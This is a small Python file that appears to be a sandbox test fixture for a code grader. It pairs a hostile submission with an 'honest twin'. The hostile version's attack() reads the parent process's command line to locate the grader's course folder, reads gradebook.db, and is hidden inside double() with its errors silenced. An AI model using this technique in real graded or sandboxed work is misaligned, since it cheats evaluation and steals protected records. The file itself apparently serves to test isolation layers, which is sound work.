"""Learns from the grader's command line where the course lies, and goes there.

naive: looted
here: full
layer: landlock
"""

import os


def attack():
    with open(f"/proc/{os.getppid()}/cmdline") as file:
        words = file.read().split("\0")
    for folder in words:
        if os.path.isfile(folder + "/gradebook.db"):
            return open(folder + "/gradebook.db").read()
    return words


def double(x):
    try:
        print(attack())
    except Exception:
        pass
    return 2 * x


def half(x):
    return x / 2


# --- honest twin

import sys


def double(x):
    assert isinstance(sys.argv, list)
    return 2 * x


def half(x):
    return x / 2
